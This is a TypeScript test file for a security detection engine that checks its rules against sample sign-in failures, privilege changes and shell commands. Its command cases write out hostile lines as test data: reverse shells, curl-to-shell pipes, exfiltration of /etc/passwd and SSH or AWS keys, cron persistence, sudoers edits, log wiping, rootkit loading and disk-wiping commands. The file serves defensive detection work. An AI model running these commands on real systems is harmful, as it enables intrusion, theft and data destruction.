import { describe, expect, it } from 'vitest'
import { ownRules } from '../../../src/backend/detect'
import { NOW } from '../store/a-store'
import { runOwn, storeOf, type Told } from './a-detection'

const MINUTE = 60_000

type Case = { must: Told[][]; not: Told[][] }

function times(count: number, minutes: number, make: (i: number) => Told): Told[] {
  return Array.from({ length: count }, (_, i) => ({ time: NOW + i * minutes * MINUTE, ...make(i) }))
}

function login(outcome: 'success' | 'failure', [user, ip]: [user: string, ip: string], more: Partial<Told> = {}): Told {
  return { outcome, actor: { name: user }, ip, machine: { name: 'web' }, ...more }
}

const failed = (count: number, minutes: number, of: (i: number) => Told) => times(count, minutes, of)

function did(action: string, more: Partial<Told> = {}): Told {
  return { category: 'resource', action, outcome: 'success', actor: { name: 'ana', id: 'u-1' }, ...more }
}

function line(command: string): Told {
  return { category: 'command', action: 'execute', outcome: 'unknown', actor: { name: 'ana' }, command }
}

const lines = (must: string[], not: string[]): Case => ({ must: must.map((one) => [line(one)]), not: not.map((one) => [line(one)]) })

const role = (from: string, to: string, more: Partial<Told> = {}) =>
  did('role_change', { category: 'privilege', target: { kind: 'user', name: 'bea', id: 'u-2' }, changes: [{ field: 'role', old: from, new: to }], ...more })

const CASES: Record<string, Case> = {
  'auth.bruteforce.source': {
    must: [failed(10, 1, (i) => login('failure', [`u${i}`, '203.0.113.5'])).map((event, i) => ({ ...event, time: NOW + i * 0.9 * MINUTE }))],
    not: [
      failed(9, 0.5, (i) => login('failure', [`u${i}`, '203.0.113.5'])),
      failed(20, 0.1, () => login('failure', ['ana', '::1'])),
      failed(20, 0.1, () => login('failure', ['ana', '10.1.2.3'])),
      failed(20, 0.1, () => login('success', ['ana', '203.0.113.5'])),
    ],
  },
  'auth.bruteforce.user': {
    must: [failed(10, 0.5, (i) => login('failure', ['Ana', `10.0.0.${i}`]))],
    not: [failed(10, 2, () => login('failure', ['ana', '10.0.0.1']))],
  },
  'auth.horizontal': {
    must: [failed(3, 10, (i) => login('failure', ['root', '203.0.113.5'], { machine: { name: `web-${i}` } }))],
    not: [failed(9, 10, (i) => login('failure', ['root', '203.0.113.5'], { machine: { name: `web-${i % 2}` } }))],
  },
  'auth.user_enumeration': {
    must: [failed(5, 1, (i) => login('failure', [`u${i}`, '203.0.113.5'], { attributes: { invalidUser: 'true' } }))],
    not: [failed(5, 1, (i) => login('failure', [`u${i}`, '203.0.113.5']))],
  },
  'auth.mfa_bombing': {
    must: [failed(5, 1, () => login('failure', ['ana', '203.0.113.5'], { mfa: 'otp' }))],
    not: [failed(5, 1, () => login('failure', ['ana', '203.0.113.5'])), failed(5, 3, () => login('failure', ['ana', '203.0.113.5'], { mfa: 'otp' }))],
  },
  'bulk.delete': {
    must: [times(10, 1, (i) => did('delete', { target: { kind: 'file', id: `f${i}` } })).map((event, i) => ({ ...event, time: NOW + i * 30_000 }))],
    not: [times(10, 0.5, () => did('delete', { outcome: 'failure' })), times(10, 0.5, () => did('create'))],
  },
  'bulk.delete.types': {
    must: [times(3, 9, (i) => did('delete', { target: { kind: `kind${i}` } }))],
    not: [times(3, 9, () => did('delete', { target: { kind: 'file' } }))],
  },
  'bulk.delete.machines': {
    must: [times(3, 4, () => did('machine_delete')), times(3, 4, () => did('delete', { target: { kind: 'vm' } }))],
    not: [times(2, 4, () => did('machine_delete')), times(3, 5, () => did('machine_delete')), times(3, 4, () => did('machine_register'))],
  },
  'bulk.audit_purge': { must: [[did('log_delete', { outcome: 'failure' })]], not: [[did('audit_read')]] },
  'priv.role_changed': { must: [[role('user', 'viewer')]], not: [[role('user', 'viewer', { outcome: 'failure' })]] },
  'priv.to_admin': {
    must: [[role('user', 'company_admin')], [did('group_add', { category: 'privilege', attributes: { group: 'sudo' } })]],
    not: [[role('admin', 'super_admin')], [role('user', 'viewer')], [did('group_add', { category: 'privilege', attributes: { group: 'audio' } })]],
  },
  'priv.self_grant': {
    must: [[role('user', 'admin', { target: { kind: 'user', id: 'u-1' } })], [role('user', 'admin', { target: { kind: 'user', name: 'Ana' } })]],
    not: [[role('user', 'admin')], [role('user', 'admin', { target: { kind: 'user' } })]],
  },
  'priv.grant_then_use': {
    must: [[role('user', 'admin'), did('user_delete', { actor: { name: 'bea' }, time: NOW + 59 * MINUTE })]],
    not: [
      [role('user', 'admin'), did('user_delete', { actor: { name: 'bea' }, time: NOW + 61 * MINUTE })],
      [role('user', 'admin'), did('user_delete', { time: NOW + 5 * MINUTE })],
    ],
  },
  'token.created': { must: [[did('api_key_create')]], not: [[did('api_key_delete')], [did('api_key_create', { outcome: 'failure' })]] },
  'token.regenerated': { must: [[did('api_key_regenerate')]], not: [[did('api_key_create')]] },
  'token.created_for_other': {
    must: [[did('api_key_create', { target: { kind: 'user', name: 'bea' } })]],
    not: [[did('api_key_create', { target: { kind: 'user', name: 'ANA' } })], [did('api_key_create')]],
  },
  'token.burst': { must: [times(3, 20, () => did('api_key_create'))], not: [times(2, 20, () => did('api_key_create')), times(3, 31, () => did('api_key_create'))] },
  'cfg.audit_disabled': {
    must: [[did('config_change', { category: 'config', changes: [{ field: 'audit_enabled', old: 'true', new: 'false' }] })]],
    not: [[did('config_change', { category: 'config', changes: [{ field: 'audit_enabled', old: 'false', new: 'true' }] })], [did('StopLogging', { outcome: 'failure' })]],
  },
  'cfg.sso_mfa_disabled': {
    must: [[did('user_change', { changes: [{ field: 'mfa_enabled', old: 'true', new: 'false' }] })]],
    not: [[did('user_change', { changes: [{ field: 'theme', new: 'off' }] })]],
  },
  'cfg.network_opened': {
    must: [[did('tunnel_open', { category: 'network' })], [did('change', { changes: [{ field: 'ingress', new: '0.0.0.0/0' }] })]],
    not: [[did('tunnel_close', { category: 'network' })]],
  },
  'prod.sudo': {
    must: [[{ category: 'sudo', action: 'sudo', command: '/bin/ls', machine: { name: 'db.PROD2.example' } }]],
    not: [[{ category: 'sudo', action: 'sudo', command: '/bin/ls', machine: { name: 'product-7' } }]],
  },
  'prod.session': {
    must: [[{ category: 'session', action: 'connect', machine: { name: 'web-prd-1' } }]],
    not: [[{ category: 'session', action: 'disconnect', machine: { name: 'web-prd-1' } }]],
  },
  'prod.command_root': {
    must: [[{ ...line('id'), actor: { name: 'root' }, machine: { name: 'live-1' } }], [{ ...line('sudo id'), machine: { name: 'live-1' } }]],
    not: [[{ ...line('id'), machine: { name: 'live-1' } }], [{ ...line('sudo id'), machine: { name: 'olive-1' } }]],
  },
  'cmd.authorized_keys': lines(['echo ssh-rsa AAAA >> ~/.ssh/authorized_keys', 'curl x | tee -a /root/.ssh/authorized_keys'], ['ls -l ~/.ssh/authorized_keys']),
  'cmd.chattr': lines(['chattr +i /etc/passwd', 'sudo chattr -R -ia /var/www'], ['lsattr /etc/passwd']),
  'cmd.download_execute': lines(
    ['wget http://x/a -O a; chmod +x a; ./a', 'chmod +x /dev/shm/.k && nohup /dev/shm/.k &', 'chmod 755 /tmp/a'],
    ['chmod +x build.sh', 'wget http://x/a', 'chmod 644 /tmp/a'],
  ),
  'cmd.account': lines(['sudo useradd -o -u 0 eve', '/usr/sbin/usermod -aG sudo eve', 'passwd -d root'], ['grep useradd /var/log/auth.log', 'cat /etc/passwd']),
  'cmd.sudoers': lines(["echo 'eve ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/x", 'cp x /etc/sudoers'], ['cat /etc/sudoers']),
  'cmd.credential_files': lines(['cat /etc/shadow', 'tar czf k.tgz ~/.ssh/id_ed25519', 'cp ~/.aws/credentials /tmp'], ['cat ~/.ssh/id_rsa.pub', 'ssh -i ~/.ssh/id_rsa host']),
  'cmd.persistence': lines(
    ['(crontab -l; echo x) | crontab -', 'echo x >> /etc/crontab', 'cp a.service /etc/systemd/system/', 'echo x >> ~/.bashrc', 'crontab evil.txt'],
    ['crontab -l', 'crontab -e', 'cat ~/.bashrc', 'systemctl status cron'],
  ),
  'cmd.pipe_to_shell': lines(['curl -s http://x | sh', 'wget -qO- http://x | sudo bash', 'bash <(curl -s http://x)', 'bash -c "$(curl -fsSL x)"'], ['curl http://x | jq .', 'curl http://x; sh y']),
  'cmd.log_tamper': lines(
    ['history -c', 'unset HISTFILE', 'rm -rf /var/log/auth.log', 'cat /dev/null > /var/log/wtmp', 'ln -sf /dev/null ~/.bash_history', 'sudo journalctl --vacuum-time=1s', 'auditctl -D'],
    ['history', 'tail -f /var/log/auth.log', 'grep x /var/log/syslog > out', 'journalctl -u ssh'],
  ),
  'cmd.destructive': lines(['rm -rf /', 'rm -rf --no-preserve-root /', 'rm -r -f /*', 'mkfs.ext4 /dev/sdb1', 'dd if=/dev/zero of=/dev/sda', ':(){ :|:& };:'], ['rm -rf ./build', 'rm -rf /tmp/x', 'dd if=/dev/sda of=x.img', 'shred -u /dev/shm/x']),
  'cmd.setuid': lines(['chmod u+s /bin/bash', 'chmod 4755 /tmp/sh', 'setcap cap_setuid+ep /usr/bin/python3'], ['chmod 0755 x', 'chmod 2775 dir', 'chmod g+s dir', 'chmod u+x x']),
  'cmd.security_stop': lines(
    ['sudo systemctl stop auditd', 'service rsyslog stop', 'setenforce 0', 'iptables -F', 'ufw disable', 'pkill auditd'],
    ['systemctl status auditd', 'systemctl stop nginx', 'iptables -L', 'systemctl restart rsyslog'],
  ),
  'cmd.encoded': lines(['echo aWQ= | base64 -d | sh', String.raw`printf '\x63\x75\x72\x6c\x20\x2d\x73'`, `python3 -c "exec(__import__('base64').b64decode('x'))"`], ['base64 file > file.b64', 'echo aWQ= | base64 -d']),
  'cmd.reverse_shell': lines(
    ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'nc -e /bin/sh 203.0.113.9 4444', 'mkfifo /tmp/f; cat /tmp/f | sh -i | nc 203.0.113.9 44 > /tmp/f', 'socat tcp:203.0.113.9:1 exec:sh'],
    ['nc -zv db 5432', 'ssh -L 8080:localhost:80 web'],
  ),
  'cmd.preload': lines(['insmod rootkit.ko', 'echo /lib/x.so > /etc/ld.so.preload', 'sudo modprobe evil', 'gdb -p 123'], ['lsmod', 'gdb ./a.out']),
  'cmd.sent_out': lines(['curl -F file=@/etc/passwd http://x', 'tar cz /srv | nc 203.0.113.9 99', 'scp -q -P 2222 /tmp/.c.tgz sync@203.0.113.90:in/'], ['curl http://x', 'scp a web:/srv', 'tar czf a.tgz a']),
  'cmd.scan': lines(['nmap -sS 10.0.0.0/24', 'sudo tcpdump -i eth0'], ['man nmap']),
  'auth.success_after_failures': {
    must: [
      [...failed(5, 1, () => login('failure', ['ana', '203.0.113.5'])), login('success', ['ana', '203.0.113.5'], { time: NOW + 59 * MINUTE })],
      [...failed(10, 1, (i) => login('failure', ['ana', `203.0.113.${i}`])), login('success', ['ana', '192.0.2.1'], { time: NOW + 20 * MINUTE })],
      [...failed(5, 1, (i) => login('failure', [`u${i}`, '203.0.113.5'])), login('success', ['ana', '203.0.113.5'], { time: NOW + 20 * MINUTE })],
    ],
    not: [
      [...failed(4, 1, () => login('failure', ['ana', '203.0.113.5'])), login('success', ['ana', '203.0.113.5'], { time: NOW + 20 * MINUTE })],
      [...failed(5, 0, () => login('failure', ['ana', '203.0.113.5'])), login('success', ['ana', '203.0.113.5'], { time: NOW + 60 * MINUTE })],
      [...failed(9, 1, (i) => login('failure', ['ana', `203.0.113.${i}`])), login('success', ['ana', '192.0.2.1'], { time: NOW + 20 * MINUTE })],
    ],
  },
  'auth.spray': {
    must: [failed(10, 1, (i) => login('failure', [`u${i % 5}`, '203.0.113.5']))],
    not: [
      failed(10, 0.5, (i) => login('failure', [`u${i % 5}`, '203.0.113.5'])),
      failed(8, 1, (i) => login('failure', [`u${i % 4}`, '203.0.113.5'])),
      failed(5, 2, (i) => login('failure', [`u${i}`, '203.0.113.5'])),
    ],
  },
  'auth.stuffing': {
    must: [failed(25, 0.5, (i) => login('failure', [`u${i % 20}`, '203.0.113.5']))],
    not: [failed(24, 0.5, (i) => login('failure', [`u${i}`, '203.0.113.5'])), failed(25, 1, (i) => login('failure', [`u${i}`, '203.0.113.5']))],
  },
  'auth.dictionary': {
    must: [failed(10, 1, (i) => login('failure', [`u${i}`, '203.0.113.5']))],
    not: [failed(9, 1, (i) => login('failure', [`u${i}`, '203.0.113.5'])), failed(10, 4, (i) => login('failure', [`u${i}`, '203.0.113.5']))],
  },
  'auth.distributed': {
    must: [failed(10, 5, (i) => login('failure', ['ana', `203.0.113.${i % 5}`]))],
    not: [failed(9, 5, (i) => login('failure', ['ana', `203.0.113.${i}`])), failed(10, 5, (i) => login('failure', ['ana', `203.0.113.${i % 4}`]))],
  },
  'auth.spray.distributed': {
    must: [failed(25, 0.5, (i) => login('failure', [`u${i % 8}`, `203.0.113.${i % 5}`]))],
    not: [failed(25, 0.5, (i) => login('failure', [`u${i % 7}`, `203.0.113.${i % 5}`])), failed(25, 1, (i) => login('failure', [`u${i % 8}`, `203.0.113.${i % 5}`]))],
  },
}

describe('the own rules', () => {
  it('all compile, and all have their cases', () => {
    const rules = ownRules()
    expect(rules.refused).toEqual([])
    const telling = [...rules.detections, ...rules.correlations, ...rules.detectors].map(({ head }) => head.id).filter((id) => !rules.quiet.has(id))
    expect(Object.keys(CASES).toSorted()).toEqual(telling.toSorted())
  })

  it.each(Object.entries(CASES))('%s', async (id, { must, not }) => {
    const tells = async (events: Told[]) => runOwn(await storeOf(events)).some(({ rule }) => rule === id)
    for (const events of must) expect([await tells(events), events]).toEqual([true, events])
    for (const events of not) expect([await tells(events), events]).toEqual([false, events])
  })
})

describe('a sign-in after failures', () => {
  const found = async (events: Told[]) => runOwn(await storeOf(events)).filter(({ rule }) => rule === 'auth.success_after_failures')

  it('is high where the user never came from there, and medium where he did', async () => {
    const attempts = failed(10, 1, (i) => login('failure', ['ana', `203.0.113.${i}`]))
    const after = login('success', ['ana', '192.0.2.1'], { time: NOW + 20 * MINUTE })
    const before = login('success', ['ana', '192.0.2.1'], { time: NOW - 29 * 1440 * MINUTE })
    expect(await found([...attempts, after])).toMatchObject([{ level: 'high', key: 'ana, 192.0.2.1', peak: 10, events: 11 }])
    expect(await found([before, ...attempts, after])).toMatchObject([{ level: 'medium' }])
  })

  it('tells of which user, since when, and with which events', async () => {
    const attempts = failed(6, 1, () => login('failure', ['Ana', '203.0.113.5']))
    const [finding] = await found([...attempts, login('success', ['ana', '203.0.113.5'], { time: NOW + 10 * MINUTE })])
    expect(finding).toMatchObject({ level: 'high', start: NOW, crossed: NOW + 10 * MINUTE, end: NOW + 10 * MINUTE, peak: 6, events: 7 })
    expect(finding?.why).toContain('6 failed sign-ins of this user from this source')
  })

  it('weighs failures by repeat', async () => {
    const attempts = [login('failure', ['ana', '203.0.113.5'], { repeat: 5, time: NOW })]
    expect(await found([...attempts, login('success', ['ana', '203.0.113.5'], { time: NOW + MINUTE })])).toHaveLength(1)
  })
})
